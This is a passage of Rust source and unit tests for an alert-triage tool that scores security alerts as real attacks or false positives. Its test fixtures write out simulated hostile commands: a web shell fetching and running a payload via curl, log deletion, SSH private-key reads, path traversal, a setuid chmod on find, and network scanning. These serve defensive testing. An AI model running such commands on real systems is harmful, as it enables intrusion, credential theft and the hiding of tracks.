            // in proportion to the alerts that show them.
            let feature = match kind_of(sid) {
                Kind::Attack => max,
                Kind::Benign => sum / n as f64,
            };
            let effect = weights.get(sid).copied().unwrap_or(0.0) * feature;
            features.push((sid.to_string(), feature));
            let v: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let mut evidence = signals::text(sid, lang, &v);
            if k < n {
                evidence.push_str(&lang.t(
                    format!(" (in {k} of {n} alerts)"),
                    format!("（{n} 件中 {k} 件）"),
                ));
            }
            reasons.push((
                Reason {
                    signal: sid.to_string(),
                    evidence,
                    effect: round3(effect),
                },
                signals::confirm(sid, lang, &v),
            ));
        }
        let logit: f64 = reasons.iter().map(|(r, _)| r.effect).sum();
        let score = round3(sigmoid(logit));
        let vetoed: Vec<String> = reasons
            .iter()
            .filter(|(r, _)| vetoes(&r.signal, r.effect))
            .map(|(r, _)| r.signal.clone())
            .collect();
        // Every alert of the part has the verdict `alerts_verdict`: a likely false positive
        // only when each of them had an anchoring signal.
        let anchored = alerts_verdict == Verdict::LikelyFalsePositive;
        let verdict = verdict(score, !vetoed.is_empty(), anchored);
        let held_back = verdict == Verdict::Uncertain && Verdict::from_score(score) != verdict;
        let unanchored = held_back && vetoed.is_empty();
        let agg_withheld = agg.withheld;
        reasons.sort_by(|a, b| {
            b.0.effect
                .abs()
                .partial_cmp(&a.0.effect.abs())
                .unwrap_or(std::cmp::Ordering::Equal)
        });
        let mut confirm: Vec<String> = Vec::new();
        for (_, c) in &reasons {
            if let Some(c) = c {
                if !confirm.contains(c) {
                    confirm.push(c.clone());
                }
            }
        }
        let first = agg.members.first().copied().unwrap_or(0);
        let ev = records.get(first).map(|r| &r.event);
        if confirm.is_empty() {
            let cmd = ev
                .and_then(|e| text(e, "proc.cmdline"))
                .unwrap_or_else(|| "?".into());
            confirm.push(lang.t(
                format!("what the process was doing (`{cmd}`) and who owns the workload"),
                format!("プロセスの動作内容（`{cmd}`）とワークロードの管理者"),
            ));
        }
        confirm.truncate(4);
        let reasons: Vec<Reason> = reasons
            .into_iter()
            .map(|(r, _)| r)
            .take(MAX_REASONS)
            .collect();
        let sample = records
            .get(first)
            .map(|r| sample_alert(self.engine, rule, r, self.hostname))
            .unwrap_or(Json::Null);
        let action = ev.map(|e| describe_action(e, lang)).unwrap_or_default();
        let why: Vec<&str> = reasons
            .iter()
            .take(2)
            .map(|r| r.evidence.as_str())
            .collect();
        let alerts_n = agg.members.len();
        let summary = match lang {
            Lang::En => format!(
                "{} (score {:.2}): {action}; {alerts_n} alert(s) in this cluster. Main reasons: {}.{} The score weighs the evidence quell saw; it is not a proof, and the decision is yours. To have a decision count next time, record it as \"quell.decision\": \"benign\" or \"real\" on the alerts you pass with --history.",
                capitalise(verdict.text(lang)),
                score,
                if why.is_empty() { "no evidence either way".to_string() } else { why.join("; ") },
                if let (true, Some(f)) = (unanchored, agg_withheld) { format!(" Not called a likely false positive despite the score: the work looks unattended, but {}.", withheld_text(f, lang)) } else if unanchored { " Not called a likely false positive despite the score: all the evidence toward a false positive is something an intruder at the same terminal could produce too (a person at a terminal, a program run before); none shows a scheduled job, a service's own child or an agent nobody entered, people's past decisions or repetition across hosts and days.".to_string() } else if held_back { format!(" Not called a likely false positive despite the score: there is evidence of an attack ({}).", vetoed.join(", ")) } else { String::new() }
            ),
            Lang::Ja => format!(
                "{}（スコア {:.2}）：{action}。このクラスタのアラートは {alerts_n} 件です。主な理由：{}。{}スコアは quell が確認できた根拠の重み付けであり、証明ではありません。最終判断は担当者が行います。判断を次回に反映させるには、--history に渡すアラートに \"quell.decision\": \"benign\" または \"real\" を記録してください。",
                verdict.text(lang),
                score,
                if why.is_empty() { "どちらとも判断できる根拠がありません".to_string() } else { why.join("／") },
                if let (true, Some(f)) = (unanchored, agg_withheld) { format!("スコアは高いものの、誰も入っていない作業に見える一方で、{}ため「誤検知の可能性が高い」とはしていません。", withheld_text(f, lang)) } else if unanchored { "スコアは高いものの、誤検知を示す根拠はいずれも同じ端末の侵入者にも作り出せるもの（端末の人、事前に実行されたプログラム）であり、定期ジョブ・サービス自身の子プロセス・誰も入っていないエージェント、過去の判断、複数ホスト・複数日にわたる繰り返しのいずれも見られないため「誤検知の可能性が高い」とはしていません。".to_string() } else if held_back { format!("スコアは高いものの、攻撃を示す根拠（{}）があるため「誤検知の可能性が高い」とはしていません。", vetoed.join("、")) } else { String::new() }
            ),
        };
        ClusterReport {
            rule: rule.clone(),
            cluster: id,
            alerts: alerts_n,
            verdict,
            score,
            reasons,
            confirm,
            sample,
            summary,
            signature: c.signature.clone(),
            members: agg.members,
            features,
            anchor,
        }
    }
}

/// Work nobody entered, as the lineage and the whole input show it (see
/// [`unattended_work`]).
#[derive(Debug, Default)]
struct Work {
    /// A container workload's own process tree, not refuted by what quell saw, and no
    /// contact outside the site in its session.
    workload: Option<crate::evidence::WorkloadInit>,
    /// A scheduler's job whose forgeries are closed: its launcher's name.
    cron: Option<String>,
    /// A scheduler's job whose schedule was written in the input before it, or which runs
    /// a dropped script: never anchored as unattended.
    cron_refuted: bool,
}

impl Work {
    /// The launcher text of `job_quiet` for a scheduler's job or a workload.
    fn launcher(&self, lang: Lang) -> Option<String> {
        if let Some(c) = &self.cron {
            return Some(c.clone());
        }
        self.workload.as_ref().map(|w| {
            lang.t(
                format!("the container's entrypoint {}", w.name),
                format!("コンテナのエントリポイント {}", w.name),
            )
        })
    }
}

/// Sessions of one cluster that must show its act, each quiet, for `job_recurs`.
pub const RECUR_SESSIONS: usize = 2;

/// `job_recurs` (session 13): the cluster's act, by work a service manager started, quiet
/// as a job and unvetoed (`AnchorFacts::recurs`), recurred in [`RECUR_SESSIONS`] or more
/// separate sessions of the input. Routine work repeats (a timer's nightly run, the same
/// unit on several hosts); an intruder's act is usually once, and an intruder who repeats
/// it must keep each session free of every step the quiet-job test and the vetoes see.
/// Each such alert gets the signal, and `job_reads_by_purpose` when it only read a
/// sensitive file (nothing in its session reached outside the site: the candidate's own
/// test). Alerts that are not candidates (another lineage, a download in the session, a
/// veto) neither count nor get it.
fn recurrence(
    scored: &mut [(usize, Vec<Hit>, AnchorFacts)],
    records: &[Record],
    sessions: &Sessions,
    w: &dyn Fn(&str) -> f64,
) {
    let candidate = |hits: &[Hit], facts: &AnchorFacts| {
        facts.recurs && !hits.iter().any(|h| vetoes(h.id, w(h.id) * h.act))
    };
    let mut seen_in: Vec<*const Session> = Vec::new();
    for (i, hits, facts) in scored.iter() {
        if !candidate(hits, facts) {
            continue;
        }
        if let Some(s) = sessions.session(*i) {
            let p = std::ptr::from_ref(s);
            if !seen_in.contains(&p) {
                seen_in.push(p);
            }
        }
    }
    if seen_in.len() < RECUR_SESSIONS {
        return;
    }
    let n = seen_in.len().to_string();
    for (i, hits, facts) in scored.iter_mut() {
        if !candidate(hits, facts) || sessions.session(*i).is_none() {
            continue;
        }
        hits.push(hit("job_recurs", 1.0, vec![("sessions", n.clone())]));
        if let Some(ev) = records.get(*i).map(|r| &r.event) {
            if reads_only(ev) {
                if let Some((t, Sensitivity::High)) = target_sensitivity(ev) {
                    hits.push(hit("job_reads_by_purpose", 1.0, vec![("target", t)]));
                }
            }
        }
    }
}

/// Work nobody entered, by lineage shape (issue 11, session 7):
/// - a container workload's own process tree ([`workload_init`]): refuted when quell saw
///   the topmost process with a pid other than 1 in its container (an `exec`'d process
///   re-parented to the shim) or the event carries no pid for it; never with a contact
///   outside the site in the session;
/// - a scheduler's job ([`scheduler_launcher`]): refuted when a schedule entry of the same
///   host and container was written at or before it anywhere in the input, or the job runs
///   a script or program from a drop directory; for `job_quiet` also never with a contact
///   outside the site in the session, nor with a schedule entry as its target.
fn unattended_work(r: &Record, seen: &WorkSeen, reached_outside: bool) -> Work {
    let ev = &r.event;
    let workload = workload_init(ev).filter(|w| {
        !reached_outside && (w.level == 0 || w.pid.is_some_and(|p| !seen.not_init(r, p)))
    });
    let sched = scheduler_launcher(ev);
    let cron_refuted =
        sched.is_some() && (seen.schedule_written_before(r) || job_runs_dropped(ev).is_some());
    let target_is_schedule = target(ev).is_some_and(|(_, t)| is_schedule_entry(&t));
    let cron = sched.filter(|_| !cron_refuted && !reached_outside && !target_is_schedule);
    Work {
        workload,
        cron,
        cron_refuted,
    }
}

/// Whether the event opens its file for reading only.
pub(crate) fn reads_only(ev: &FlatEvent) -> bool {
    let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
    matches!(
        text(ev, "evt.type").as_deref(),
        Some("open" | "openat" | "openat2")
    ) && flag("evt.is_open_read")
        && !flag("evt.is_open_write")
        && !text(ev, "evt.arg.flags").is_some_and(|f| {
            f.contains("O_WRONLY") || f.contains("O_RDWR") || f.contains("O_TRUNC")
        })
}

fn capitalise(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
        None => String::new(),
    }
}

impl ClusterReport {
    /// The machine-readable form (`quell triage --json`).
    pub fn to_json(&self) -> Json {
        json!({
            "rule": self.rule,
            "cluster": self.cluster,
            "alerts": self.alerts,
            "verdict": self.verdict.as_str(),
            "score": self.score,
            "reasons": self.reasons,
            "confirm": self.confirm,
            "sample": self.sample,
            "summary": self.summary,
            "signature": self.signature,
            "anchor": self.anchor,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::input::parse_records;

    const RULES: &str = r#"
- rule: Clear Log Activities
  desc: log cleared
  condition: evt.type in (unlink, unlinkat) and fs.path.name startswith /var/log/
  output: log cleared (path=%fs.path.name process=%proc.name exepath=%proc.exepath parent=%proc.pname)
  priority: WARNING
- rule: Shell Spawned by Web Server
  desc: shell
  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (httpd, nginx)
  output: shell (shell=%proc.name parent=%proc.pname)
  priority: WARNING
- rule: Run shell untrusted
  desc: shell under a database or php
  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm, sqlplus)
  output: shell (shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)
  priority: NOTICE
- rule: Read environ
  desc: process environments read
  condition: evt.type = openat and fd.name glob /proc/*/environ
  output: environ read (file=%fd.name process=%proc.name)
  priority: WARNING
- rule: Exec from tmp
  desc: binary run from /tmp
  condition: evt.type = execve and proc.exepath startswith /tmp/
  output: exec from tmp (exe=%proc.exepath parent=%proc.pname)
  priority: WARNING
- rule: Read ssh
  desc: ssh keys read
  condition: evt.type = openat and fd.name contains /.ssh/
  output: ssh read (file=%fd.name process=%proc.name)
  priority: WARNING
- rule: Terminal probe
  desc: terminal helper
  condition: evt.type = execve and proc.name = tput
  output: tput (cmdline=%proc.cmdline)
  priority: NOTICE
- rule: Package manager
  desc: package manager launched
  condition: evt.type = execve and proc.name in (apk, apt-get, dpkg, pip)
  output: package manager (cmdline=%proc.cmdline parent=%proc.pname)
  priority: NOTICE
- rule: Network tool
  desc: network tool launched
  condition: evt.type = execve and proc.name in (tcpdump, nmap)
  output: network tool (cmdline=%proc.cmdline parent=%proc.pname)
  priority: NOTICE
- rule: Agent connect
  desc: a monitoring agent's connection
  condition: evt.type = connect and proc.name = telegraf
  output: agent connect (connection=%fd.name process=%proc.name)
  priority: NOTICE
- rule: Metadata contact
  desc: the cloud instance metadata service
  condition: evt.type = connect and fd.name contains "->169.254.169.254:"
  output: metadata (process=%proc.name connection=%fd.name)
  priority: NOTICE
- rule: Mode change
  desc: a mode changed
  condition: evt.type in (chmod, fchmod, fchmodat)
  output: mode change (path=%fs.path.name mode=%evt.arg.mode process=%proc.name)
  priority: NOTICE
- rule: SNMP
  desc: an SNMP client's datagram
  condition: evt.type = connect and proc.name in (snmpget, snmpset)
  output: snmp (process=%proc.name connection=%fd.name)
  priority: NOTICE
- rule: User mgmt binaries
  desc: account tools
  condition: evt.type = execve and proc.name in (useradd, usermod)
  output: account tool (cmdline=%proc.cmdline parent=%proc.pname)
  priority: NOTICE
"#;

    fn engine() -> Engine {
        let mut e = Engine::new();
        let r = e.load("rules.yaml", RULES);
        assert!(r.successful, "{r:?}");
        e
    }

    fn run(lines: &[&str], lang: Lang, history: &History) -> Vec<ClusterReport> {
        let e = engine();
        let recs = parse_records(&lines.join("\n"), "t").unwrap();
        let cat = Catalogue::builtin();
        Triage {
            engine: &e,
            catalogue: &cat,
            history,
            lang,
            hostname: "h",
        }
        .run(&recs)
    }

    const OPERATOR: &[&str] = &[
        r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":50,"evt.rawtime":100,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}"#,
        r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.sid":50,"evt.rawtime":200,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}"#,
    ];
    const ATTACK: &[&str] = &[
        r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":70,"evt.rawtime":100,"proc.name":"sh","proc.pname":"httpd"}"#,
        r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":70,"evt.rawtime":110,"proc.name":"curl","proc.pname":"sh","proc.cmdline":"curl -so /tmp/p http://127.0.0.1:8080/p"}"#,
        r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":70,"evt.rawtime":120,"proc.name":"p","proc.exepath":"/tmp/p","proc.pname":"sh","proc.aname[2]":"httpd"}"#,
        r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.sid":70,"evt.rawtime":130,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":0,"proc.aname[1]":"sh","proc.aname[2]":"httpd","fs.path.name":"/var/log/dpkg.log"}"#,
    ];

    #[test]
    fn operator_cleanup_is_likely_false_positive() {
        let r = run(OPERATOR, Lang::En, &History::empty());
        assert_eq!(r.len(), 1);
        let c = &r[0];
        assert_eq!(c.rule, "Clear Log Activities");
        assert_eq!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
        assert!(c.score >= FP_THRESHOLD);
        let sig: Vec<&str> = c.reasons.iter().map(|r| r.signal.as_str()).collect();
        assert!(
            sig.contains(&"interactive_session") && sig.contains(&"target_housekeeping"),
            "{sig:?}"
        );
        assert!(!c.confirm.is_empty());
        assert_eq!(c.sample["rule"], "Clear Log Activities");
        assert_eq!(
            c.sample["output_fields"]["fs.path.name"],
            "/var/log/dpkg.log"
        );
        let j = c.to_json();
        for k in [
            "rule", "cluster", "alerts", "verdict", "score", "reasons", "confirm", "sample",
        ] {
            assert!(j.get(k).is_some(), "{k}");
        }
        assert_eq!(j["verdict"], "likely_false_positive");
    }

    #[test]
    fn web_shell_chain_is_likely_real() {
        let r = run(ATTACK, Lang::En, &History::empty());
        let c = r.iter().find(|c| c.rule == "Clear Log Activities").unwrap();
        assert_eq!(c.verdict, Verdict::LikelyReal, "{c:#?}");
        let sig: Vec<&str> = c.reasons.iter().map(|r| r.signal.as_str()).collect();
        assert!(
            sig.contains(&"attack_chain") && sig.contains(&"service_shell"),
            "{sig:?}"
        );
        // Reasons are sorted by strength.
        assert!(c
            .reasons
            .windows(2)
            .all(|w| w[0].effect.abs() >= w[1].effect.abs()));
        let shell = r
            .iter()
            .find(|c| c.rule == "Shell Spawned by Web Server")
            .unwrap();
        assert!(shell.score < 0.5);
    }

    #[test]
    fn japanese_explanations() {
        let r = run(OPERATOR, Lang::Ja, &History::empty());
        let c = &r[0];
        assert!(c.summary.contains("誤検知の可能性が高い"), "{}", c.summary);
        assert!(c
            .reasons
            .iter()
            .any(|r| r.evidence.contains("対話セッション")));
        assert!(
            c.confirm
                .iter()
                .all(|s| s.chars().any(|ch| ('\u{3040}'..='\u{30ff}').contains(&ch))),
            "{:?}",
            c.confirm
        );
        // Same numbers in both languages.
        let en = run(OPERATOR, Lang::En, &History::empty());
        assert_eq!(en[0].score, c.score);
        assert_eq!(en[0].cluster, c.cluster);
    }

    #[test]
    fn history_decisions_move_the_score() {
        let e = engine();
        let recs = parse_records(&OPERATOR.join("\n"), "t").unwrap();
        // A past recording of the same behaviour (same lineage shape), decided real.
        let mut past: Json = serde_json::from_str(OPERATOR[1]).unwrap();
        past["quell.decision"] = json!("real");
        let _ = &recs;
        let hist_recs = parse_records(&past.to_string(), "hist").unwrap();
        let hist = History::build(&e, &hist_recs);
        let r = run(OPERATOR, Lang::En, &hist);
        assert_eq!(r[0].reasons[0].signal, "history_real");
        assert!(r[0].score < 0.5, "{:?}", r[0]);
        // A never-seen cluster with history given is nudged toward real.
        let other = parse_records(r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"x","fs.path.name":"/var/log/other"}}"#, "h").unwrap();
        let hist2 = History::build(&e, &other);
        let r2 = run(OPERATOR, Lang::En, &hist2);
        assert!(r2[0]
            .reasons
            .iter()
            .any(|r| r.signal == "prevalence_new" && r.effect < 0.0));
    }

    #[test]
    fn no_evidence_is_uncertain() {
        let r = run(
            &[
                r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.name":"rm","fs.path.name":"/var/log/app/x.log"}"#,
            ],
            Lang::En,
            &History::empty(),
        );
        assert_eq!(r[0].verdict, Verdict::Uncertain);
        assert_eq!(r[0].score, 0.5);
    }

    fn verdict_of(lines: &[String], rule: &str) -> Vec<ClusterReport> {
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        run(&refs, Lang::En, &History::empty())
            .into_iter()
            .filter(|c| c.rule == rule)
            .collect()
    }

    fn l(v: serde_json::Value) -> String {
        v.to_string()
    }

    fn signals(c: &ClusterReport) -> Vec<&str> {
        c.reasons.iter().map(|r| r.signal.as_str()).collect()
    }

    /// The catalogue explains an agent's or a helper's act, not the same name hidden in a
    /// dot-directory, not a credential read its entry does not say its work makes (a web
    /// application's image converter reading a private key), and not a connection to an
    /// address outside the site (an agent's sink moved outside) (issue 11, session 11:
    /// holdout10's first blind measure).
    #[test]
    fn the_catalogue_explains_the_agent_not_its_name_or_its_new_destinations() {
        let has_known = |json: serde_json::Value, rule: &str| {
            let r = verdict_of(&[l(json)], rule);
            assert_eq!(r.len(), 1, "{r:#?}");
            signals(&r[0]).contains(&"known_benign")
        };
        let read = |exe: &str, path: &str| json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":610,"evt.rawtime":10,"proc.name":"restic","proc.exepath":exe,"proc.cmdline":"restic backup /root","proc.pname":"systemd","fd.name":path});
        assert!(has_known(
            read("/usr/bin/restic", "/root/.ssh/id_ed25519"),
            "Read ssh"
        ));
        assert!(!has_known(
            read("/var/lib/restic/.bin/restic", "/root/.ssh/id_ed25519"),
            "Read ssh"
        ));
        let convert = |path: &str| json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":611,"evt.rawtime":10,"proc.name":"vipsthumbnail","proc.exepath":"/usr/bin/vipsthumbnail","proc.cmdline":"vipsthumbnail /data/uploads/../../root/.ssh/x -o /data/thumbs/x.jpg","proc.pname":"sh","proc.pcmdline":"sh -c vipsthumbnail /data/uploads/../../root/.ssh/x -o /data/thumbs/x.jpg","proc.aname[2]":"nginx","fd.name":path});
        assert!(has_known(convert("/root/.ssh/known_hosts"), "Read ssh"));
        assert!(!has_known(convert("/root/.ssh/id_rsa"), "Read ssh"));
        let connect = |ip: &str| json!({"evt.type":"connect","evt.rawres":0,"proc.sid":612,"evt.rawtime":10,"proc.name":"telegraf","proc.exepath":"/usr/bin/telegraf","proc.cmdline":"telegraf --config /etc/telegraf/telegraf.conf","proc.pname":"systemd","fd.sip":ip,"fd.sport":8086,"fd.name":format!("10.0.0.5:41000->{ip}:8086")});
        assert!(has_known(connect("10.12.0.40"), "Agent connect"));
        assert!(!has_known(connect("185.220.101.7"), "Agent connect"));
    }

    /// Session 24, from the blind holdout33: a catalogue entry explains its agent's routine
    /// work, not a setuid bit given in the same session (a configuration run's shared
    /// folder, then `chmod 4755 /usr/bin/find`) unless it says its work sets them
    /// (`allows: [setid]`, the package managers); and a read-only entry (a monitoring agent)
    /// never explains a command that changes a device's state (`snmpset`).
    #[test]
    fn the_catalogue_explains_neither_a_setid_bit_nor_a_pollers_write() {
        let chmod = |sid: i64, t: i64, actor: &str, path: &str, mode: &str| json!({"evt.type":"fchmodat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":t,"proc.name":actor,"proc.exepath":format!("/usr/bin/{actor}"),"proc.cmdline":format!("{actor} run"),"proc.pname":"systemd","proc.tty":0,"fs.path.name":path,"evt.arg.mode":mode});
        let verdicts = |lines: Vec<serde_json::Value>| {
            let lines: Vec<String> = lines.into_iter().map(l).collect();
            verdict_of(&lines, "Mode change")
        };
        // The shared folder alone: the configuration agent's work, nobody entered.
        let r = verdicts(vec![chmod(
            720,
            1,
            "salt-minion",
            "/srv/share/logs",
            "2775",
        )]);
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        // The same run also giving find the setuid bit: no entry explains either alert.
        let r = verdicts(vec![
            chmod(721, 1, "salt-minion", "/srv/share/logs", "2775"),
            chmod(721, 2, "salt-minion", "/usr/bin/find", "4755"),
        ]);
        assert!(!r.is_empty());
        for c in &r {
            assert!(!signals(c).contains(&"known_benign"), "{c:#?}");
            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
        }
        // The same run also writing a cron file (the same worker process): the
        // agent's name says nothing of what the run was told to install, so the shared
        // folder's alert keeps its catalogue match but not the anchor, and says why.
        let cron = json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":723,"evt.rawtime":2,"proc.name":"salt-minion","proc.exepath":"/usr/bin/salt-minion","proc.cmdline":"salt-minion run","proc.pname":"systemd","proc.tty":0,"fd.name":"/etc/cron.d/flightlog-sync"});
        let r = verdicts(vec![
            chmod(723, 1, "salt-minion", "/srv/share/logs", "2775"),
            cron,
        ]);
        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(
            r[0].summary
                .contains("its session also wrote where intruders persist"),
            "{:#?}",
            r[0]
        );
        // Session 25, from the blind holdout35: a log rotator's removal under cron is its
        // routine work; in a run whose script also removes the authentication log, the
        // rotator's name anchors nothing, and the report says why.
        let rm = |t: i64, actor: &str, path: &str| json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":724,"proc.pid":900 + t,"evt.rawtime":t,"proc.name":actor,"proc.exepath":format!("/usr/sbin/{actor}"),"proc.cmdline":format!("{actor} /etc/logrotate.conf"),"proc.pname":"flush.sh","proc.aname[2]":"cron","proc.tty":0,"fs.path.name":path});
        let logs = |lines: Vec<serde_json::Value>| {
            let lines: Vec<String> = lines.into_iter().map(l).collect();
            verdict_of(&lines, "Clear Log Activities")
        };
        let r = logs(vec![rm(1, "logrotate", "/var/log/app.log.9")]);
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        let r = logs(vec![
            rm(1, "logrotate", "/var/log/app.log.9"),
            rm(2, "flush-helper", "/var/log/auth.log"),
        ]);
        let rotated = r
            .iter()
            .find(|c| c.summary.contains("app.log"))
            .unwrap_or_else(|| panic!("{r:#?}"));
        assert!(signals(rotated).contains(&"known_benign"), "{rotated:#?}");
        assert_ne!(
            rotated.verdict,
            Verdict::LikelyFalsePositive,
            "{rotated:#?}"
        );
        assert!(
            rotated
                .summary
                .contains("emptied or moved a security record"),
            "{rotated:#?}"
        );
        // The rotator moving the authentication log aside itself withholds nothing.
        let mut moved = rm(2, "logrotate", "");
        moved["evt.type"] = json!("renameat2");
        moved["fs.path.source"] = json!("/var/log/auth.log");
        moved["fs.path.target"] = json!("/var/log/auth.log.1");
        let r = logs(vec![rm(1, "logrotate", "/var/log/app.log.9"), moved]);
        let rotated = r
            .iter()
            .find(|c| c.summary.contains("app.log"))
            .unwrap_or_else(|| panic!("{r:#?}"));
        assert_eq!(
            rotated.verdict,
            Verdict::LikelyFalsePositive,
            "{rotated:#?}"
        );
        // A package manager installing its setuid helper: its entry says so.
        let r = verdicts(vec![chmod(722, 1, "dpkg", "/usr/bin/passwd", "4755")]);
        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        // A monitoring agent's poll, and the same agent's item setting an outlet off.
        let snmp = |sid: i64, prog: &str, cmd: &str| {
            let lines = vec![l(
                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":sid,"evt.rawtime":5,"proc.name":prog,"proc.exepath":format!("/usr/bin/{prog}"),"proc.cmdline":cmd,"proc.pname":"sh","proc.pcmdline":format!("sh -c {cmd}"),"proc.aname[2]":"zabbix_agent2","proc.tty":0,"fd.sip":"10.40.2.11","fd.sport":161,"fd.l4proto":"udp","fd.name":"10.40.0.9:40000->10.40.2.11:161"}),
            )];
            verdict_of(&lines, "SNMP")
        };
        let r = snmp(
            723,
            "snmpget",
            "snmpget -v2c -c ro -Oqv 10.40.2.11 1.3.6.1.2.1.1.3.0",
        );
        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        let r = snmp(
            724,
            "snmpset",
            "snmpset -v2c -c rw 10.40.2.11 1.3.6.1.4.1.318.1.1.12.3.3.1.1.4.3 i 2",
        );
        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
    }

    /// Issue 11: an intruder's `kubectl exec` installing tools, with or without a tty, looks
    /// exactly like an operator's: a person at a terminal and a package manager the person
    /// typed are evidence anyone with a shell produces, so neither the install nor the
    /// tool it installed is a likely false positive, whatever the score.
    #[test]
    fn exec_into_a_pod_installing_tools_is_never_a_likely_false_positive() {
        for tty in [34817, 0] {
            let base = json!({"proc.sid":320,"container.id":"abc123abc123","container.image.repository":"shop/web","proc.tty":tty,"evt.rawres":0});
            let mk = |extra: serde_json::Value| {
                let mut v = base.clone();
                for (k, x) in extra.as_object().unwrap() {
                    v[k] = x.clone();
                }
                l(v)
            };
            let lines = vec![
                mk(
                    json!({"evt.type":"execve","evt.rawtime":100,"proc.name":"sh","proc.exepath":"/bin/sh","proc.pname":"runc"}),
                ),
                mk(
                    json!({"evt.type":"execve","evt.rawtime":110,"proc.name":"apk","proc.exepath":"/sbin/apk","proc.cmdline":"apk add nmap tcpdump","proc.pname":"sh","proc.aname[2]":"runc"}),
                ),
                mk(
                    json!({"evt.type":"execve","evt.rawtime":120,"proc.name":"tcpdump","proc.exepath":"/usr/bin/tcpdump","proc.cmdline":"tcpdump -i any -w /dev/null","proc.pname":"sh","proc.aname[2]":"runc"}),
                ),
                mk(
                    json!({"evt.type":"execve","evt.rawtime":130,"proc.name":"nmap","proc.exepath":"/usr/bin/nmap","proc.cmdline":"nmap -sT 10.0.0.0/24","proc.pname":"sh","proc.aname[2]":"runc"}),
                ),
            ];
            for rule in ["Package manager", "Network tool"] {
                let r = verdict_of(&lines, rule);
                assert!(!r.is_empty(), "{rule}");
                for c in &r {
                    assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "tty {tty} {c:#?}");
                }
            }
            // the package manager's catalogue match is there and would reach the threshold
            // on its own: only the missing anchor holds it back
            let pm = verdict_of(&lines, "Package manager");
            assert!(signals(&pm[0]).contains(&"known_benign"), "{:#?}", pm[0]);
            assert!(pm[0].score >= FP_THRESHOLD, "{:#?}", pm[0]);
            assert!(
                pm[0].summary.contains("could produce too"),
                "{}",
                pm[0].summary
            );
        }
    }

    /// Holdout26 (session 21): a person's quiet session installing a debugging tool is
    /// anchored, the same session installing a client that reaches other hosts (an SSH
    /// client, netcat, a scanner) is not: it is equipping the host or the container to move
    /// on, whatever the session's quiet (`evidence::installs_network_tool`).
    #[test]
    fn a_quiet_session_installing_a_tool_to_reach_other_hosts_is_not_anchored() {
        let session = |sid: i64, cmd: &str| {
            let name = cmd.split(' ').next().unwrap();
            vec![
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_000_000_000u64,"proc.pid":sid,"proc.sid":sid,"proc.tty":34816,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"-bash","proc.pname":"sshd","proc.aname[1]":"sshd","proc.apid[1]":sid - 1}),
                ),
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_100_000_000u64,"proc.pid":sid + 1,"proc.sid":sid,"proc.tty":34816,"proc.name":name,"proc.exepath":format!("/usr/bin/{name}"),"proc.cmdline":cmd,"proc.pname":"bash","proc.aname[1]":"bash","proc.apid[1]":sid,"proc.aname[2]":"sshd","proc.apid[2]":sid - 1}),
                ),
            ]
        };
        let r = verdict_of(
            &session(1400, "apt-get install -y strace"),
            "Package manager",
        );
        assert_eq!(r.len(), 1, "{r:#?}");
        assert!(signals(&r[0]).contains(&"person_quiet"), "{:#?}", r[0]);
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        for cmd in [
            "apt-get install -y openssh-client",
            "apt-get install -y --no-install-recommends netcat-openbsd=1.219-1",
            "apk add --no-cache socat",
        ] {
            let r = verdict_of(&session(1410, cmd), "Package manager");
            assert_eq!(r.len(), 1, "{cmd}: {r:#?}");
            assert!(
                !signals(&r[0]).contains(&"person_quiet"),
                "{cmd}: {:#?}",
                r[0]
            );
            assert_ne!(
                r[0].verdict,
                Verdict::LikelyFalsePositive,
                "{cmd}: {:#?}",
                r[0]
            );
        }
    }

    /// The same package manager started by nobody at a terminal (a timer's unattended
    /// upgrade under init) is anchored: its catalogue match may make a likely false
    /// positive.
    #[test]
    fn an_unattended_package_upgrade_can_be_a_likely_false_positive() {
        let lines = vec![l(
